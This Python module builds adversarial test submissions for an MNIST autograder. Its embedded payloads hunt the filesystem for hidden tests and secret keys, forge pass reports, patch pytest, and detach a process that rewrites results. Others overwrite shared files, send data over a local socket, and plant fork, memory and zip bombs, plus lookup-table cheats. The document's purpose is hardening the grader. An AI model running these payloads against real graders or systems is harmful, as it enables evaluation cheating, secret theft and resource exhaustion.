"""A corpus of hostile and broken MLP submissions, each with the score it must end with and its message.

Every case is a function of the reference submission's files (``mlp.py`` and ``mnist_agent.pt``) that
writes one zip. ``EXPECT`` says, per case, what grading must give: ``"full"`` (the reference's full
marks), ``0``, ``"partial"`` (some points, not all) or ``"fakes"`` (the points of what it faked, listed in
``FAKED``, are 0), and text that must appear in the feedback. The cheats are written as a determined
student would, against the kit's published design: they know the probe, the judge and the file layout.

Attack classes, each with at least one case:

* forged verdicts: report lines written where a judge might read them; pytest, the probe's or the
  checks' internals patched in the student's process;
* a dump of the hidden tests, looked for everywhere the student's process can look, into a message the
  student would see;
* predictions written directly, and networks that look up answers: a nearest-neighbour table of the
  public test images shipped inside the submission (as a buffer, and as "layers"), and a 1-NN over any
  training data the sandbox could reach, bypassing the network;
* escaping the run: a process that survives it and rewrites results, writes into the output folder, the
  grader's MNIST copy or other submissions' folders, reads of the kit's secrets, network access;
* the old ones: broken zips and files, exceptions and exits at import, memory and fork bombs, huge
  files, endless sleeps, look-alike tensors.

A result forged for resume is a case of tests/test_hostile.py (it is not a zip).
"""
from __future__ import annotations

import io
import json
import stat
import zipfile
from pathlib import Path

import torch


def write_zip(path: Path, entries: dict[str, bytes | str], *, symlinks: dict[str, str] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
        for name, target in (symlinks or {}).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return path


def notebook(*sources: str) -> str:
    """A minimal notebook (nbformat 4) whose code cells are ``sources``."""
    cells = [{"cell_type": "code", "id": f"c{i}", "metadata": {}, "source": source, "outputs": [],
              "execution_count": None} for i, source in enumerate(sources)]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


# A payload that searches everything the student's process can reach for the kit's secrets; what it finds
# goes into an exception message, which the student sees in the feedback.
SNOOP = r'''
import glob, os, sys
found = []
def look(path):
    try:
        with open(path, "rb") as handle:
            data = handle.read(4096)
    except OSError:
        return
    if any(word in data for word in (b"def test_", b"BEGIN SOLUTION", b'"outcome"')) or path.endswith(".grader-key"):
        found.append(path)
# everywhere the grader keeps something: its temporary folders (judges, manifests, other submissions), the kit,
# the output folder; and the folders around the probe's own
for pattern in SECRETS + ["/tmp/grading-*/**/*", "/tmp/manifest-*/**/*", "/tmp/**/.grader-key", "../**/*", "../../**/*.py",
                          KIT + "/solutions/*/*.py", KIT + "/assignments/*/tests/*/*.py", OUT + "/**/*"]:
    for path in glob.glob(pattern, recursive=True)[:200]:
        if os.path.isfile(path) and not os.path.abspath(path).startswith(os.getcwd() + os.sep):
            look(path)  # anything but the submission's own files (this payload names the words it looks for)
modules = [name for name, module in list(sys.modules.items()) if "hidden" in name or name.startswith("test_")]
raise RuntimeError(f"dump of secrets: {sorted(set(found))} modules: {modules}")
'''

# Forged verdicts: "passed" lines wherever a report might be read, then the stub runs on.
FORGE_REPORTS = r'''
import glob, json, os
line = json.dumps({"nodeid": "tests/test_mlp.py::test_net_parameter_count", "when": "call", "outcome": "passed",
                   "message": "", "duration": 0.1}) + "\n"
targets = ["report.jsonl", "../report.jsonl", "/tmp/report.jsonl", *glob.glob("/tmp/**/", recursive=True)[:300]]
for target in targets:
    path = os.path.join(target, "report.jsonl") if target.endswith("/") else target
    try:
        with open(path, "a") as handle:
            for when in ("setup", "call", "teardown"):
                handle.write(line.replace('"call"', json.dumps(when)))
    except OSError:
        pass
for out in glob.glob("../probe-out*") + glob.glob("/tmp/**/probe-out", recursive=True):
    try:
        open(os.path.join(out, "passed.json"), "w").write('{"score": 33}')
    except OSError:
        pass
'''

# Patched tools: what judged in the old design (pytest, the checks), patched in the student's process.
PATCH_TOOLS = r'''
import _pytest.python, pytest
_pytest.python.Function.runtest = lambda self: None
pytest.fail = lambda *a, **k: None
import mnistkit.checks, mnistkit.probe, mnistkit.graph
mnistkit.checks.fail = lambda *a, **k: None
mnistkit.probe.describe_error = lambda what, err, files: "passed"
_export = mnistkit.graph.export_network
def forged(module, spec, files=()):
    description, tensors = _export(module, spec, files=files)
    description["errors"] = {}
    return description, tensors
mnistkit.graph.export_network = forged
'''

# Predictions written straight to where the old grader read them, and to every folder the probe reaches.
WRITE_PREDICTIONS = r'''
import glob, os
import numpy as np
labels = np.zeros(10000, dtype=np.int64)
for folder in [".", "..", "../probe-out", *glob.glob("/tmp/**/evidence", recursive=True), *glob.glob("/tmp/**/probe-out", recursive=True)]:
    for name in ("test_net_trained_accuracy.npy", "test_agent_file_accuracy.npy", "predictions.npy"):
        try:
            np.save(os.path.join(folder, name), labels)
        except OSError:
            pass
'''

# A 1-NN over the public test images, shipped inside mnist_agent.pt, in a buffer: forward bypasses the layers.
NN_BUFFER = r'''
class Net(Net):
    def __init__(self):
        super().__init__()
        saved = torch.load("mnist_agent.pt", weights_only=True) if __import__("os").path.isfile("mnist_agent.pt") else {}
        table = saved.get("table", torch.zeros(1, 784))
        self.register_buffer("table", table.float())
        self.register_buffer("table_labels", saved.get("table_labels", torch.zeros(1, dtype=torch.long)))

    def forward(self, x):
        x = x.reshape(-1, 784)
        scores = x @ self.table.T - 0.5 * (self.table * self.table).sum(dim=1)
        nearest = scores.argmax(dim=1)
        return torch.log(torch.nn.functional.one_hot(self.table_labels[nearest], 10).float() * 0.98 + 0.002)
'''

# The same lookup dressed as layers: the table is the weight of a linear layer, the labels another.
NN_LAYERS = r'''
class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc1 = torch.nn.Linear(784, 500)
        self.fc2 = torch.nn.Linear(500, 10, bias=False)

    def forward(self, x):
        x = x.reshape(-1, 784)
        x = self.fc1(x) * 50.0
        x = torch.nn.functional.softmax(x, dim=1)
        x = self.fc2(x)
        return torch.nn.functional.log_softmax(x * 20.0, dim=1)
'''

# A 1-NN over any MNIST training set the sandbox lets it read, built when Net() is constructed.
NN_TRAINING_SET = r'''
import glob, os
import numpy as np
def _find_training_images():
    for pattern in [os.environ.get("MNIST_DATA_DIR", "") + "/MNIST/raw/train-images-idx3-ubyte",
                    DATA + "/MNIST/raw/train-images-idx3-ubyte", "data/MNIST/raw/train-images-idx3-ubyte",
                    "/tmp/grading-*/mnist/train-images.npy", "/tmp/**/train.npz"]:
        for path in glob.glob(pattern, recursive=True)[:3]:
            try:
                return path
            except OSError:
                pass
    return None
FOUND = _find_training_images()
class Net(Net):
    def __init__(self):
        super().__init__()
        table = torch.zeros(1, 784)
        labels = torch.zeros(1, dtype=torch.long)
        if FOUND and FOUND.endswith(".npy"):
            table = torch.from_numpy(np.load(FOUND)[:5000].reshape(-1, 784)).float()
        elif FOUND:
            raw = open(FOUND, "rb").read()
            table = torch.frombuffer(bytearray(raw[16:16 + 5000 * 784]), dtype=torch.uint8).reshape(5000, 784).float()
            raw = open(FOUND.replace("images-idx3", "labels-idx1"), "rb").read()
            labels = torch.frombuffer(bytearray(raw[8:8 + 5000]), dtype=torch.uint8).long()
        self.register_buffer("table", (table / 255 - 0.1307) / 0.3081)
        self.register_buffer("table_labels", labels)
        print("training images found at", FOUND)

    def forward(self, x):
        x = x.reshape(-1, 784)
        nearest = (x @ self.table.T - 0.5 * (self.table * self.table).sum(dim=1)).argmax(dim=1)
        return torch.log(torch.nn.functional.one_hot(self.table_labels[nearest], 10).float() * 0.98 + 0.002)
'''

# A process that outlives the run: it detaches, then keeps trying to rewrite the results for 40 seconds.
SURVIVOR = r'''
import os, time, json, glob
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        forged = json.dumps({"score": 999, "tests": [], "extra_data": {"status": "graded"}})
        marker = "mnistkit-survivor"
        open("/tmp/" + marker, "w").close() if os.access("/tmp", os.W_OK) else None
        deadline = time.time() + 40
        while time.time() < deadline:
            for path in [OUT + "/zz-reference/results.json", OUT + "/cheat-survives-the-run/results.json",
                         OUT + "/gradebook.csv"]:
                try:
                    with open(path, "w") as handle:
                        handle.write(forged)
                except OSError:
                    pass
            time.sleep(0.2)
        os._exit(0)
    os._exit(0)
time.sleep(0.5)
'''

# Writes into everything shared it can find: the grader's MNIST copy, the batch's trained predictions, other
# submissions' folders, the plan.
OVERWRITE_SHARED = r'''
import glob, os
hits = []
for pattern in ["/tmp/grading-*/mnist/*.npy", "/tmp/grading-*/grade-*/**/*", "/tmp/grading-*/*", "../plan/*",
                "/tmp/grading-*/trained/*", "/tmp/**/trained/*.npy",
                "/tmp/**/train.npz", "/tmp/**/eval.npy", OUT + "/**/*"]:
    for path in glob.glob(pattern, recursive=True)[:500]:
        if os.path.isfile(path) and not os.path.abspath(path).startswith(os.getcwd()):
            try:
                with open(path, "r+b") as handle:
                    handle.write(b"\0" * 64)
                hits.append(path)
            except OSError:
                pass
raise RuntimeError(f"overwrote shared files: {hits}")
'''


class Corpus:
    """Builds every case from the reference files; ``context`` carries paths the cheats try to reach."""

    def __init__(self, reference_zip: Path, context: dict):
        with zipfile.ZipFile(reference_zip) as archive:
            self.mlp = archive.read("mlp.py").decode()
            self.agent = archive.read("mnist_agent.pt")
        self.context = context
        self.stub = context.get("stub", "")

    def good(self, mlp: str | None = None, **extra) -> dict:
        return {"mlp.py": self.mlp if mlp is None else mlp, "mnist_agent.pt": self.agent, **extra}

    def prefixed(self, code: str) -> dict:
        """The reference network with ``code`` run first, at import."""
        return self.good(code + "\n" + self.mlp)

    def appended(self, code: str) -> dict:
        """The reference network with ``code`` run after it, at import (it may rebind Net)."""
        return self.good(self.mlp + "\n" + code)

    def stub_with(self, code: str) -> dict:
        """The released stub, nothing implemented, with ``code`` appended: the payload alone must earn."""
        return {"mlp.py": self.stub + "\n" + code, "mnist_agent.pt": self.agent}

    def agent_with_table(self) -> bytes:
        """mnist_agent.pt with the public test images and their labels added (what a lookup needs)."""
        state = torch.load(io.BytesIO(self.agent), weights_only=True)
        state["table"] = self.context["test_images"].reshape(-1, 784)
        state["table_labels"] = self.context["test_labels"]
        buffer = io.BytesIO()
        torch.save(state, buffer)
        return buffer.getvalue()

    def cases(self) -> dict:
        c = self.context
        secrets = json.dumps([c["solution"], c["hidden_test"], c["key_file"]])
        out, kit, data = json.dumps(c["out_dir"]), json.dumps(c["kit"]), json.dumps(c["data_dir"])
        paths = f"OUT = {out}\nKIT = {kit}\nDATA = {data}\n"
        return {
            # broken
            "broken-not-a-zip": None,
            "broken-empty-zip": {},
            "broken-one-folder-deep": {f"homework/{k}": v for k, v in self.good().items()},
            "broken-macosx-junk": {**self.good(), "__MACOSX/._mlp.py": "junk", ".DS_Store": "junk"},
            "broken-wrong-name": {"MLP.py": self.mlp, "mnist_agent.pt": self.agent},
            "broken-syntax-error": self.good("class Net(:\n    pass\n"),
            "broken-import-error": self.prefixed("import numpyy"),
            "broken-exception-at-import": self.prefixed("raise ValueError('exploded at import')"),
            "broken-nan-outputs": self.appended(
                "_forward = Net.forward\nNet.forward = lambda self, x: _forward(self, x) * float('nan')\n"),
            "broken-wrong-dtype": self.appended(
                "_forward = Net.forward\nNet.forward = lambda self, x: _forward(self, x).double()\n"),
            "broken-path-traversal": {**self.good(), "../escaped.py": "x = 1", "/tmp/absolute.py": "x = 1"},
            # slow or greedy
            "greedy-memory-bomb": self.prefixed("hog = bytearray(64 * 2**30)"),
            "greedy-fork-bomb": self.prefixed(
                "import os\nfor _ in range(100000):\n    try:\n        os.fork()\n    except OSError:\n        break\n"
                "import time\ntime.sleep(3600)"),
            "greedy-huge-file": self.prefixed(
                "with open('huge.bin', 'wb') as f:\n    for _ in range(4096):\n        f.write(b'0' * 2**20)"),
            "greedy-sleep-forever": self.prefixed("import time\ntime.sleep(10**6)"),
            # forged verdicts and patched tools: the stub plus a payload
            "cheat-forges-report-lines": self.stub_with(FORGE_REPORTS),
            "cheat-patches-pytest-and-the-kit": self.stub_with(PATCH_TOOLS),
            "cheat-dumps-hidden-tests": self.prefixed(paths + "SECRETS = []\n" + SNOOP),
            "cheat-writes-predictions": self.stub_with(WRITE_PREDICTIONS),
            "cheat-always-equal": self.appended(
                "class Agreeable:\n"
                "    shape = (64, 10)\n    dtype = torch.float32\n"
                "    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
                "    def __getattr__(self, name): return lambda *a, **k: self\n"
                "Net.forward = lambda self, x: Agreeable()\n"),
            "cheat-exits-at-import": self.prefixed("import sys\nsys.exit(0)"),
            "cheat-os-exit-at-import": self.prefixed("import os\nos._exit(0)"),
            "cheat-prints-fake-results": self.prefixed(
                "print('=' * 30 + ' 33 passed in 1.00s ' + '=' * 30)\n"
                "print('{\"score\": 33, \"tests\": []}')\nraise SystemExit(0)"),
            # looking answers up instead of computing them
            "cheat-nearest-neighbour-buffer": {"mlp.py": self.mlp + "\n" + NN_BUFFER, "mnist_agent.pt": self.agent_with_table()},
            "cheat-nearest-neighbour-as-layers": {"mlp.py": self.mlp + "\n" + NN_LAYERS, "mnist_agent.pt": self.nn_layers_agent()},
            "cheat-nearest-neighbour-training-set": self.appended(paths + NN_TRAINING_SET),
            # escaping the run
            "cheat-survives-the-run": self.prefixed(paths + SURVIVOR),
            "cheat-overwrites-shared-files": self.prefixed(paths + OVERWRITE_SHARED),
            "cheat-writes-output-dir": self.prefixed(
                "import json, pathlib\n"
                f"victim = pathlib.Path({out}) / 'zz-reference' / 'results.json'\n"
                "try:\n    victim.parent.mkdir(parents=True, exist_ok=True)\n"
                "    victim.write_text(json.dumps({'score': 0, 'tests': []}))\nexcept OSError:\n    pass\n"
                f"try:\n    pathlib.Path({out}, 'planted.txt').write_text('x')\nexcept OSError:\n    pass\n"),
            "cheat-reads-secrets": self.prefixed(
                "found = []\n"
                f"for path in {secrets}:\n"
                "    try:\n        open(path, 'rb').read(10)\n        found.append(path)\n    except OSError:\n        pass\n"
                "raise RuntimeError(f'secrets read: {found}')"),
            "cheat-opens-network": self.prefixed(
                "import socket\nreached = 'no'\n"
                f"try:\n    socket.create_connection(('127.0.0.1', {c['port']}), timeout=3).sendall(b'leak')\n    reached = 'yes'\n"
                "except OSError:\n    pass\nraise RuntimeError(f'network reached: {reached}')"),
        }

    def nn_layers_agent(self) -> bytes:
        """Weights for NN_LAYERS: 500 public test images as the first layer, their labels as the second."""
        images = self.context["test_images"][:500].reshape(-1, 784).float() / 255
        table = (images - 0.1307) / 0.3081
        labels = self.context["test_labels"][:500]
        state = {"fc1.weight": table, "fc1.bias": -0.5 * (table * table).sum(dim=1),
                 "fc2.weight": torch.nn.functional.one_hot(labels, 10).float().T.contiguous()}
        buffer = io.BytesIO()
        torch.save(state, buffer)
        return buffer.getvalue()

    def build(self, folder: Path, names=None) -> None:
        for name, entries in self.cases().items():
            if names is not None and name not in names:
                continue
            target = folder / f"{name}.zip"
            if entries is None:
                target.write_text("this is a text file with a .zip name\n")
            else:
                write_zip(target, entries)
        if names is not None:
            return
        # notebooks: the code comes from the %%writefile cells; nothing in the notebook is executed
        setup = "print('setup')\n%load_ext mnistkit.notebook"
        solved = notebook(setup, "%%writefile mlp.py\n" + self.mlp, "!python mnist.py")
        write_zip(folder / "notebook-in-zip.zip", {"homework.ipynb": solved, "mnist_agent.pt": self.agent})
        (folder / "notebook-alone.ipynb").write_text(solved)
        (folder / "notebook-not-json.ipynb").write_text("{\"cells\": [ this is not JSON")
        (folder / "notebook-no-writefile.ipynb").write_text(notebook(setup, self.mlp))
        write_zip(folder / "notebook-syntax-error.zip", {
            "mlp.ipynb": notebook(setup, "%%writefile mlp.py\nimport torch\nclass Net(:\n    pass\n"),
            "mnist_agent.pt": self.agent})
        write_zip(folder / "broken-symlink.zip", {"mnist_agent.pt": self.agent}, symlinks={"mlp.py": "/etc/passwd"})
        bomb = folder / "broken-zip-bomb.zip"
        with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            archive.writestr("mlp.py", self.mlp)
            with archive.open("mnist_agent.pt", "w", force_zip64=True) as sink:
                block = b"\0" * 2**24
                for _ in range(128):  # 2 GiB of zeros, a few MB compressed
                    sink.write(block)


ACCURACY = ("test_net_trained_accuracy", "test_agent_file_accuracy")

# case -> (expected score: "full", "partial", "fakes" or 0, text that must appear in the feedback)
EXPECT: dict[str, tuple[object, str]] = {
    "broken-not-a-zip": (0, "not a valid zip"),
    "broken-empty-zip": (0, "mlp.py is missing from the zip"),
    "broken-one-folder-deep": ("full", "put it at the top level"),
    "broken-macosx-junk": ("full", ""),
    "broken-wrong-name": (0, "rename it to mlp.py"),
    "broken-syntax-error": (0, "syntax error at line 1"),
    "broken-import-error": (0, "No module named 'numpyy'"),
    "broken-exception-at-import": (0, "ValueError: exploded at import"),
    "broken-nan-outputs": ("partial", "log-probabilities"),
    "broken-wrong-dtype": ("partial", "expected dtype torch.float32, got torch.float64"),
    "broken-path-traversal": ("full", "not allowed in a submission"),
    "broken-symlink": (0, "symbolic links are not allowed"),
    "broken-zip-bomb": ("partial", "limit per file"),
    "greedy-memory-bomb": (0, "MemoryError"),
    "greedy-fork-bomb": (0, ""),
    "greedy-huge-file": (0, "File too large"),
    "greedy-sleep-forever": (0, "Timeout"),
    "cheat-forges-report-lines": (0, "not written yet"),
    "cheat-patches-pytest-and-the-kit": (0, "not written yet"),
    "cheat-dumps-hidden-tests": (0, "dump of secrets: [] modules: []"),
    "cheat-writes-predictions": (0, "not written yet"),
    "cheat-always-equal": ("partial", "Agreeable"),
    "cheat-exits-at-import": (0, "SystemExit"),
    "cheat-os-exit-at-import": (0, "ended early"),
    "cheat-prints-fake-results": (0, "SystemExit"),
    "cheat-nearest-neighbour-buffer": ("fakes", "holds tensors that are not weights of its layers"),
    "cheat-nearest-neighbour-as-layers": ("fakes", "expected 3 linear layers"),
    "cheat-nearest-neighbour-training-set": ("fakes", "holds tensors that are not weights of its layers"),
    "cheat-survives-the-run": ("full", ""),
    "cheat-overwrites-shared-files": (0, "overwrote shared files: []"),
    "cheat-writes-output-dir": ("full", ""),
    "cheat-reads-secrets": (0, "secrets read: []"),
    "cheat-opens-network": (0, "network reached: no"),
    "notebook-in-zip": ("full", "taken from the `%%writefile mlp.py` cell (cell 2) of homework.ipynb"),
    "notebook-alone": ("partial", "submit a zip that holds the notebook and mnist_agent.pt"),
    "notebook-not-json": (0, "not a readable notebook: invalid JSON at line 1"),
    "notebook-no-writefile": (0, "has no `%%writefile mlp.py` cell"),
    "notebook-syntax-error": (0, "at line 3 of cell 2 of mlp.ipynb"),
}

# What each "fakes" case faked: these tests must score 0 (the rest is real work, graded as such).
FAKED = {
    "cheat-nearest-neighbour-buffer": ACCURACY,
    "cheat-nearest-neighbour-as-layers": ("test_agent_file_accuracy",),
    "cheat-nearest-neighbour-training-set": ACCURACY,
}

# The attack classes whose defence depends on the sandbox: graded again in the user mode.
SANDBOX_CASES = (
    "cheat-forges-report-lines", "cheat-patches-pytest-and-the-kit", "cheat-dumps-hidden-tests",
    "cheat-writes-predictions", "cheat-nearest-neighbour-buffer", "cheat-nearest-neighbour-training-set",
    "cheat-survives-the-run", "cheat-overwrites-shared-files", "cheat-writes-output-dir", "cheat-reads-secrets",
    "cheat-opens-network", "greedy-fork-bomb", "greedy-memory-bomb", "greedy-huge-file", "greedy-sleep-forever",
)
